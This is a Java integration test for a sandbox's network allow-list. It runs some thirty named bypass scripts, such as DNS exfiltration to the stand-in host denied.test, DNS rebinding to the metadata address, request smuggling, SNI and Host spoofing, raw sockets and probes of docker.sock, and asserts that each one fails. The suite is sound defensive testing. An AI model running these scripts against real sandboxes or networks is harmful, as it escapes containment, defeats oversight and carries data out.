package dev.shellbox.sandbox.egress;

import static org.assertj.core.api.Assertions.assertThat;

import dev.shellbox.platform.testing.TestInternet;
import java.net.InetAddress;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Named attempts to get around a sandbox's allow-list, each run as a script inside a local sandbox whose policy allows
 * only allowed.test on ports 80 and 443: none may reach denied.test (or its addresses, or anything private), none may
 * carry data out in DNS, and the fake internet's logs show it. The list and its results are in docs/egress.md.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class EgressBypassIT {
    static final String POLICY = "{\"mode\":\"allowlist\",\"allow\":[\"allowed.test:80\",\"allowed.test:443\","
            + "\"*.allowed.test:80\",\"*.allowed.test:443\"],\"deny\":[\"denied.test\"]}";

    static EgressWorld world;
    static String sandbox;

    /** An attempt, and what its output must show besides no leak (null: nothing more). */
    record Attempt(String name, String script, String expect) {
        Attempt(String name, String script) {
            this(name, script, null);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    @BeforeAll
    static void start() throws Exception {
        world = EgressWorld.start("egress-bypass-workspaces");
        TestInternet net = world.internet;
        net.tcpEcho(8080);
        net.rebinding("rebind-lo.allowed.test", world.allowed.ipv4(), "127.0.0.1");
        net.rebinding("rebind-md.allowed.test", world.allowed.ipv4(), TestInternet.METADATA_ADDRESS);
        net.cname("alias.allowed.test", "denied.test");
        net.routeMetadataFromHost();
        // -Degress.bypass.policy=true runs the attempts in an open network instead, to see the suite catch leaks
        sandbox = world.sandbox(System.getProperty("egress.bypass.policy", POLICY));
    }

    @AfterAll
    static void stop() {
        if (world != null) {
            world.close();
        }
    }

    static Stream<Attempt> attempts() throws Exception {
        String d4 = world.denied.ipv4();
        String d6 = world.denied.ipv6();
        byte[] b = InetAddress.getByName(d4).getAddress();
        long decimal = ((b[0] & 0xffL) << 24) | ((b[1] & 0xff) << 16) | ((b[2] & 0xff) << 8) | (b[3] & 0xff);
        String octal = String.format("0%o.0%o.0%o.0%o", b[0] & 0xff, b[1] & 0xff, b[2] & 0xff, b[3] & 0xff);
        String curl = "/usr/bin/curl -s -m 5 ";
        String direct = curl + "--noproxy '*' ";
        String stub = "STUB=$(getent hosts allowed.test | cut -d' ' -f1); ";
        String py = "python3 -c '\nimport socket, struct\n";
        List<Attempt> all = new ArrayList<>(List.of(
                new Attempt("noproxy", direct + "http://denied.test/echo"),
                new Attempt(
                        "unset proxy variables",
                        "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy " + curl
                                + "http://denied.test/echo"),
                new Attempt("raw IPv4 literal", curl + "http://" + d4 + "/echo; " + direct + "http://" + d4 + "/echo"),
                new Attempt(
                        "IPv4-mapped IPv6",
                        curl + "-g 'http://[::ffff:" + d4 + "]/echo'; " + direct + "-g 'http://[::ffff:" + d4
                                + "]/echo'"),
                new Attempt(
                        "decimal address",
                        curl + "http://" + decimal + "/echo; " + direct + "http://" + decimal + "/echo"),
                new Attempt(
                        "octal address", curl + "http://" + octal + "/echo; " + direct + "http://" + octal + "/echo"),
                new Attempt(
                        "/etc/hosts override",
                        "(echo '" + d4 + " allowed.test' >> /etc/hosts) 2>&1; " + direct + "--resolve allowed.test:80:"
                                + d4 + " http://allowed.test/echo"),
                new Attempt(
                        "DNS exfiltration in A queries",
                        "getent hosts c2VjcmV0.denied.test; " + py
                                + "try: print(socket.gethostbyname(\"c2VjcmV0LWE.denied.test\"))\n"
                                + "except Exception as e: print(\"refused\", e)'",
                        "refused"),
                new Attempt("DNS exfiltration in AAAA queries", "getent ahostsv6 c2VjcmV0LWFhYWE.denied.test; echo $?"),
                new Attempt(
                        "DNS exfiltration in TXT queries",
                        py + "q = struct.pack(\">HHHHHH\", 7, 256, 1, 0, 0, 0)\n"
                                + "for label in [b\"c2VjcmV0LXR4dA\", b\"denied\", b\"test\"]: q += bytes([len(label)])"
                                + " + label\n"
                                + "q += b\"\\0\" + struct.pack(\">HH\", 16, 1)\n"
                                + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)\n"
                                + "s.sendto(q, (\"10.0.2.3\", 53)); r = s.recv(512); print(\"rcode\", r[3] & 15)'",
                        "rcode 5"),
                new Attempt(
                        "DNS straight to an outside resolver",
                        py + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)\n"
                                + "try: s.sendto(b\"\\x00\\x01\" + bytes(10), (\""
                                + world.internet.dnsServer().getAddress().getHostAddress()
                                + "\", 53)); print(s.recv(512))\nexcept Exception as e: print(\"failed\", e)'"),
                new Attempt("CNAME chain to a denied name", curl + "http://alias.allowed.test/echo"),
                new Attempt(
                        "DNS rebinding to 127.0.0.1",
                        "for i in 1 2 3; do " + curl + "-o /dev/null -w '%{http_code} ' http://rebind-lo.allowed.test/;"
                                + " done",
                        "200 403 403"),
                new Attempt(
                        "DNS rebinding to 169.254.169.254",
                        "for i in 1 2 3; do " + curl + "http://rebind-md.allowed.test/latest/; done"),
                new Attempt(
                        "CONNECT to an allowed name with another SNI",
                        curl
                                + "--cacert ca.pem --connect-to denied.test:443:allowed.test:443 https://denied.test/echo"),
                new Attempt(
                        "transparent TLS with another SNI",
                        stub + direct + "-k --resolve denied.test:443:$STUB https://denied.test/echo"),
                new Attempt(
                        "absolute URI differs from Host",
                        py + "s = socket.create_connection((\"10.0.2.3\", 3128), 5)\n"
                                + "s.sendall(b\"GET http://allowed.test/echo HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n\")\n"
                                + "print(s.recv(4096).split(b\"\\r\\n\")[0])'",
                        "400"),
                new Attempt(
                        "transparent Host differs from the resolved name",
                        stub + direct + "-H 'Host: denied.test' http://$STUB/echo",
                        "Host header"),
                new Attempt(
                        "redirect to a denied host",
                        curl + "-L 'http://allowed.test/redirect?to=http://denied.test/echo'"),
                new Attempt(
                        "UDP",
                        py + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n"
                                + "try: s.sendto(b\"LEAK-UDP\", (\"" + d4 + "\", " + TestInternet.UDP_ECHO_PORT
                                + ")); print(s.recv(100))\nexcept Exception as e: print(\"failed\", e)'"),
                new Attempt(
                        "QUIC (UDP 443)",
                        py + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n"
                                + "try: s.sendto(b\"\\xc0\" + bytes(1200), (\"" + d4 + "\", 443)); print(s.recv(100))\n"
                                + "except Exception as e: print(\"failed\", e)'"),
                new Attempt(
                        "ICMP",
                        py + "for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):\n"
                                + "  try:\n    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)\n"
                                + "    s.sendto(b\"\\x08\\0\\xf7\\xff\\0\\0\\0\\0\", (\"" + d4
                                + "\", 0)); print(\"sent\")\n"
                                + "  except Exception as e: print(\"failed\", e)'"),
                new Attempt(
                        "raw sockets",
                        py
                                + "for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):\n"
                                + "  try: socket.socket(family, kind, 255 if family == socket.AF_INET else 0);"
                                + " print(\"opened\")\n"
                                + "  except Exception as e: print(\"failed\", e)'"),
                new Attempt(
                        "Unix sockets of host services",
                        py
                                + "import glob\nfor p in glob.glob(\"/run/**/*\", recursive=True) + [\"/var/run/docker.sock\","
                                + " \"/run/postgresql/.s.PGSQL.5432\"]:\n"
                                + "  try:\n    s = socket.socket(socket.AF_UNIX); s.connect(p); print(\"LEAK\", p)\n"
                                + "  except Exception as e: pass\nprint(\"done\")'"),
                new Attempt(
                        "another port of an allowed name",
                        curl + "http://allowed.test:8080/; " + stub + direct + "http://$STUB:8080/"),
                new Attempt(
                        "the slirp gateway addresses",
                        direct + "http://10.0.2.2/; " + direct + "http://10.0.2.3/; " + curl + "http://10.0.2.2/"),
                new Attempt(
                        "IPv6 link-local", direct + "-g 'http://[fe80::1%25lo]/'; " + curl + "-g 'http://[fe80::1]/'"),
                new Attempt(
                        "request smuggling (CL and TE)",
                        py + "s = socket.create_connection((\"10.0.2.3\", 3128), 5)\n"
                                + "body = b\"0\\r\\n\\r\\nGET http://denied.test/echo HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n\"\n"
                                + "s.sendall(b\"POST http://allowed.test/echo HTTP/1.1\\r\\nHost: allowed.test\\r\\n"
                                + "Content-Length: %d\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n\" % len(body) + body)\n"
                                + "print(s.recv(65536))'",
                        "400 Bad Request"),
                new Attempt(
                        "WebSocket upgrade to a denied host",
                        curl + "-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13'"
                                + " -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' http://denied.test/echo"),
                new Attempt(
                        "oversized headers",
                        curl + "-o /dev/null -w '%{http_code}' -H \"X-Big: $(head -c 100000 /dev/zero | tr '\\0' a)\""
                                + " http://allowed.test/echo",
                        "431"),
                new Attempt(
                        "cloud metadata",
                        curl + "http://" + TestInternet.METADATA_ADDRESS + "/; " + direct + "http://"
                                + TestInternet.METADATA_ADDRESS + "/"),
                new Attempt(
                        "private address through the proxy",
                        curl + "http://10.0.0.1/; " + curl + "http://127.0.0.1:22/")));
        if (d6 != null) {
            all.add(new Attempt(
                    "raw IPv6 literal",
                    curl + "-g 'http://[" + d6 + "]/echo'; " + direct + "-g 'http://[" + d6 + "]/echo'"));
        }
        return all.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attempts")
    @Order(1)
    void attemptFails(Attempt attempt) {
        String out = world.exec(sandbox, attempt.script() + "; echo; echo end")
                .extract()
                .path("stdout");
        assertThat(out).as("the script ran").contains("end");
        if (attempt.expect() != null) {
            assertThat(out).as(attempt.name()).contains(attempt.expect());
        }
        assertThat(out)
                .as(attempt.name())
                .doesNotContain("LEAK")
                .doesNotContain(TestInternet.METADATA_SECRET)
                .doesNotContain("\"host\":\"denied.test\"")
                .doesNotContain("\"localAddress\":\"" + world.denied.ipv4() + "\"");
    }

    @Test
    @Order(2)
    void nothingReachedTheDeniedHostAndNoDeniedNameWasResolved() {
        TestInternet net = world.internet;
        assertThat(net.dnsQueries())
                .noneMatch(q -> q.name().equals("denied.test") || q.name().endsWith(".denied.test"));
        String d4 = world.denied.ipv4();
        assertThat(net.requests())
                .noneMatch(r -> d4.equals(r.localAddress())
                        || "denied.test".equals(r.host())
                        || "denied.test".equals(r.sni())
                        || TestInternet.METADATA_ADDRESS.equals(r.localAddress()));
        assertThat(net.connections())
                .noneMatch(c -> c.localPort() == 8080 || c.protocol().equals("udp"));
    }

    @Test
    @Order(3)
    void theAllowedHostStillAnswers() {
        String out = world.exec(sandbox, "/usr/bin/curl -s -m 5 http://allowed.test/echo")
                .extract()
                .path("stdout");
        assertThat(out).contains("\"host\":\"allowed.test\"");
    }
}
